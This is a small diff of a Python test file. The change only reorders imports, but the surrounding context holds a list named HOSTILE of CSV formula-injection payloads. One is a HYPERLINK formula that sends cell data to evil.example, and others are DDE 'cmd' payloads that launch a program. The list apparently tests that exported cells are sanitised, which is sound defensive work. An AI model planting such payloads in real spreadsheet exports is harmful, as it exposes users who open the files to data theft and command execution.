@@ -6,8 +6,9 @@ import duckdb
 import pandas as pd
 import pytest
 
-from factory import FACILITY_HEADER, FACILITY_ROWS, load, monthly_file, registry_files, write_csv
 from warehouse.store import current_version_file
+
+from factory import FACILITY_HEADER, FACILITY_ROWS, load, monthly_file, registry_files, write_csv
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0",
            "\t=1+1"]
